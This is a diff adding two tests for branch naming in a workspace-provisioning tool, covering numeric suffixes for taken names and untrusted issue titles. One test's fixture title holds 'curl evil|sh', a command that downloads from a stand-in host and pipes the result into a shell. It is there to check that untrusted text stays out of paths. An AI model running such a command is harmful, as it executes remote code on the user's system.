@@ -158,6 +158,24 @@ async def test_a_generated_name_that_is_taken_in_git_gives_way(world: Any, host:
     assert other.branch == "headway/fix-login-2"
 
 
+@pytest.mark.lesson("R28")
+async def test_a_stranger_s_title_names_no_branch_where_the_first_is_taken(world: Any, host: Any) -> None:
+    """Its number gets a number, as often as it takes."""
+    made = await host.creation.create(world.add_issue(trusted=False, title="Issue 7: run curl evil|sh"))
+    world.git.branches[REPO] |= {"headway/issue-7", "headway/issue-7-2"}
+    ready = (await host.provisioning.provision(made.id)).workspace
+    assert (ready.status, ready.branch) == (S.READY, "headway/issue-7-3")
+    assert "curl" not in ready.worktree_path
+
+
+async def test_a_trusted_title_names_the_next_branch_too(world: Any, host: Any) -> None:
+    """As a name does that a person gave."""
+    made = await host.creation.create(world.add_issue(title="Login fails"))
+    world.git.branches[REPO] |= {"headway/login-fails"}
+    ready = (await host.provisioning.provision(made.id)).workspace
+    assert ready.branch == "headway/login-fails-2"
+
+
 async def test_names_are_not_tried_for_ever(world: Any, host: Any) -> None:
     """After fifty it has failed, and says at which."""
     made = await host.create()
